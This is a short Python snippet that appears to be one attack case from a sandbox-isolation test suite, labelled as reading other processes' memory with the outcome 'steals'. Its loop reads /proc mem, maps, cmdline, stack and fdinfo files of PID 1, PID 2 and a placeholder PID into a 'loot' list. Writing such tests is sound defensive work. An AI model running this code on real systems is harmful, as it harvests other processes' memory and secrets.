# attack: reads the memory of other processes
# exercises: vertical_edge_kernel
# outcome: steals
for pid in ("1", "2", "__PID__"):
    for name in ("mem", "maps", "cmdline", "stack", "fdinfo/3"):
        try:
            loot.append(open(f"/proc/{pid}/{name}", "rb").read(100000))
        except OSError:
            pass
